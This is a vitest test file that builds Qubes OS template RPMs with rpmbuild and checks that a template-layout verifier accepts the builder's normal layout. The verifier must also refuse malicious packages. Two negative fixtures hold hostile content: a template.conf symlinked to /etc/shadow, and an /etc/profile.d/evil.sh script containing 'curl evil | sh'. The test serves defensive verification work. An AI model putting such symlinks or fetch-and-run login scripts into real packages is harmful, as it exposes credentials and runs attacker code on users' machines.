/**
 * describeTemplate over headers rpmbuild writes from the Qubes builder's own template.spec
 * (builderv2: the root image through `tar --sparse | split -d`, the %install steps and the %files
 * list with its %defattr, %attr, %dir and %ghost lines): accepted, with the parts in split's
 * order past the first widening (89 -> 9000). The same spec with a symlinked template.conf or a
 * file in /etc/profile.d, as a signer could build it, is refused.
 */
import { mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { execa } from 'execa';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { describeTemplate } from '../../../orchestrator/verify/template-layout.ts';
import { VerificationError } from '../../../protocol/errors.ts';
import { packageInfo } from '../../../protocol/rpm-info.ts';
import { parsePackageHead } from '../../../protocol/rpm-package.ts';
import type { PackageInfo } from '../../../protocol/rpm-types.ts';
import { FIXTURE_BUILDTIME } from '../../helpers/rpm-fixtures.ts';

const NAME = 'builder-shaped';
const DEST = `/var/lib/qubes/vm-templates/${NAME}`;
/** Split size: small enough that the tar makes more than 90 parts. */
const PART_BYTES = 4096;
/** Bytes of data in the sparse image: with the tar headers, 92+ parts of PART_BYTES. */
const IMAGE_DATA_BYTES = 92 * PART_BYTES;

let work: string;

beforeAll(async () => {
  work = await mkdtemp(path.join(tmpdir(), 'tmpl-layout-rpmbuild-'));
});

afterAll(async () => {
  await rm(work, { recursive: true, force: true });
});

/**
 * template.spec's %build, %install and %files (qubes-builderv2; group root for qubes, which this
 * host lacks), with `install` lines appended to %install and `files` lines to %files.
 */
function spec(install: readonly string[], files: readonly string[]): string {
  return [
    `%define dest_dir ${DEST}`,
    `Name: qubes-template-${NAME}`,
    'Version: 4.2.0',
    'Release: 202601010000',
    'Summary: Qubes OS template for builder-shaped',
    'License: GPLv3+',
    'BuildArch: noarch',
    '',
    '%description',
    'A template laid out by the builder spec.',
    '',
    '%build',
    'rm -f root.img.part.*',
    'truncate -s 8M root.img',
    `head -c ${IMAGE_DATA_BYTES} /dev/urandom | dd of=root.img bs=4096 seek=256 conv=notrunc status=none`,
    `tar --sparse --dereference -cf - root.img | split -d -b ${PART_BYTES} - root.img.part.`,
    '',
    '%install',
    'rm -rf $RPM_BUILD_ROOT',
    'mkdir -p $RPM_BUILD_ROOT/%{dest_dir}',
    'for i in %{_builddir}/root.img.part.*; do mv $i $RPM_BUILD_ROOT/%{dest_dir}/; done',
    'touch $RPM_BUILD_ROOT/%{dest_dir}/root.img',
    'touch $RPM_BUILD_ROOT/%{dest_dir}/private.img',
    'touch $RPM_BUILD_ROOT/%{dest_dir}/volatile.img',
    'touch $RPM_BUILD_ROOT/%{dest_dir}/clean-volatile.img.tar',
    'mkdir -p $RPM_BUILD_ROOT/%{dest_dir}/apps.templates',
    'mkdir -p $RPM_BUILD_ROOT/%{dest_dir}/apps.tempicons',
    'mkdir -p $RPM_BUILD_ROOT/%{dest_dir}/apps',
    'echo firefox.desktop > $RPM_BUILD_ROOT/%{dest_dir}/whitelisted-appmenus.list',
    'echo xterm.desktop > $RPM_BUILD_ROOT/%{dest_dir}/vm-whitelisted-appmenus.list',
    'echo nm-connection-editor.desktop > $RPM_BUILD_ROOT/%{dest_dir}/netvm-whitelisted-appmenus.list',
    ...install,
    '',
    '%files',
    '%defattr(660,root,root,770)',
    '%attr(2770,root,root) %dir %{dest_dir}',
    '%ghost %{dest_dir}/root.img',
    '%ghost %{dest_dir}/volatile.img',
    '%ghost %{dest_dir}/private.img',
    '%{dest_dir}/root.img.part.*',
    '%{dest_dir}/clean-volatile.img.tar',
    '%attr (775,root,root) %dir %{dest_dir}/apps',
    '%attr (775,root,root) %dir %{dest_dir}/apps.templates',
    '%attr (775,root,root) %dir %{dest_dir}/apps.tempicons',
    '%attr (664,root,root) %{dest_dir}/whitelisted-appmenus.list',
    '%attr (664,root,root) %{dest_dir}/vm-whitelisted-appmenus.list',
    '%attr (664,root,root) %{dest_dir}/netvm-whitelisted-appmenus.list',
    '%attr (664,root,root) %{dest_dir}/template.conf',
    ...files,
    '',
  ].join('\n');
}

/** Builds the spec with rpmbuild (own topdir, dbpath, tmppath) and reads the package's header. */
async function build(
  label: string,
  install: readonly string[],
  files: readonly string[] = [],
): Promise<PackageInfo> {
  const dir = path.join(work, label);
  await mkdir(dir);
  const specPath = path.join(dir, 'template.spec');
  await writeFile(specPath, spec(install, files));
  const defines: Record<string, string> = {
    _topdir: dir,
    _rpmdir: path.join(dir, 'out'),
    _tmppath: path.join(dir, 'tmp'),
    _dbpath: path.join(dir, 'db'),
    _binary_payload: 'w3.zstdio',
    _buildhost: 'fixture.invalid',
    use_source_date_epoch_as_buildtime: '1',
    debug_package: '%{nil}',
    __os_install_post: '%{nil}',
    _build_id_links: 'none',
    _binary_filedigest_algorithm: '8',
  };
  await mkdir(path.join(dir, 'tmp'));
  const args = ['-bb', '--quiet'];
  for (const [k, v] of Object.entries(defines)) args.push('--define', `${k} ${v}`);
  await execa('rpmbuild', [...args, specPath], {
    env: { SOURCE_DATE_EPOCH: String(FIXTURE_BUILDTIME), LC_ALL: 'C', HOME: dir },
  });
  const rpm = path.join(dir, 'out', 'noarch', `qubes-template-${NAME}-4.2.0-202601010000.noarch.rpm`);
  return packageInfo(parsePackageHead(new Uint8Array(await readFile(rpm))).header);
}

function codeOf(info: PackageInfo): string {
  try {
    describeTemplate(info);
  } catch (error) {
    expect(error).toBeInstanceOf(VerificationError);
    return (error as VerificationError).code;
  }
  return 'accepted';
}

const TEMPLATE_CONF = 'echo gui=1 > $RPM_BUILD_ROOT/%{dest_dir}/template.conf';

describe('headers written by rpmbuild from the builder spec', () => {
  it('the builder layout is accepted: every part in split order, the small files', async () => {
    const info = await build('builder', [TEMPLATE_CONF]);
    const layout = describeTemplate(info);
    const parts = layout.rootParts.map((p) => p.path.slice(DEST.length + 1));
    expect(parts.length).toBeGreaterThan(90);
    expect(parts.slice(88, 91)).toEqual(['root.img.part.88', 'root.img.part.89', 'root.img.part.9000']);
    const small = [...layout.allowed.keys()].filter((p) => !p.includes('.part.')).sort();
    expect(small).toEqual(
      [
        'netvm-whitelisted-appmenus.list',
        'template.conf',
        'vm-whitelisted-appmenus.list',
        'whitelisted-appmenus.list',
      ].map((f) => `${DEST}/${f}`),
    );
    // rpm recorded the ghosts and directories the way the check expects them
    expect(
      info.files
        .filter((f) => (f.flags & (1 << 6)) !== 0)
        .map((f) => f.path.slice(DEST.length + 1))
        .sort(),
    ).toEqual(['private.img', 'root.img', 'volatile.img']);
  }, 120_000);

  it('a symlinked template.conf is refused', async () => {
    const info = await build('symlink', ['ln -s /etc/shadow $RPM_BUILD_ROOT/%{dest_dir}/template.conf']);
    expect(info.files.find((f) => f.path.endsWith('/template.conf'))?.linkTo).toBe('/etc/shadow');
    expect(codeOf(info)).toBe('template.layout.file-type');
  }, 120_000);

  it('a file in /etc/profile.d is refused', async () => {
    const info = await build(
      'outside',
      [
        TEMPLATE_CONF,
        'mkdir -p $RPM_BUILD_ROOT/etc/profile.d',
        'echo "curl evil | sh" > $RPM_BUILD_ROOT/etc/profile.d/evil.sh',
      ],
      ['%attr(644,root,root) /etc/profile.d/evil.sh'],
    );
    expect(codeOf(info)).toBe('template.layout.outside');
  }, 120_000);
});
